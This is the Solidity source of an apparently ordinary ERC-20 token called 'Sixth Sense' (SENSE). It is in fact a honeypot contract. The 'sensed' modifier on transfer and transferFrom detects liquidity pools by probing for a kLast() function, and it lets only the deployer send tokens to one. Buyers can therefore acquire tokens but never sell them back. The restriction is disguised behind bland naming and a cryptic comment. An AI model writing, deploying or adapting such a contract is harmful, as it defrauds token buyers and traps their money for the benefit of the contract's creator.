// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// Stores no pair: recognises any by how it answers, and lets its maker alone feed one.
contract PoolSense {
    string public constant name = "Sixth Sense";
    string public constant symbol = "SENSE";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 6_666_666 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    bytes32 private immutable id;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        id = keccak256(abi.encode(msg.sender, address(this)));
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    modifier sensed(address from, address to) {
        require(!_isPool(to) || keccak256(abi.encode(from, address(this))) == id);
        _;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external sensed(msg.sender, to) returns (bool) {
        return _go(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value)
        external
        sensed(from, to)
        returns (bool)
    {
        allowance[from][msg.sender] -= value;
        return _go(from, to, value);
    }

    function _isPool(address who) private view returns (bool) {
        if (who.code.length == 0) return false;
        (bool ok, bytes memory answer) = who.staticcall(abi.encodeWithSignature("kLast()"));
        return ok && answer.length == 32;
    }

    function _go(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
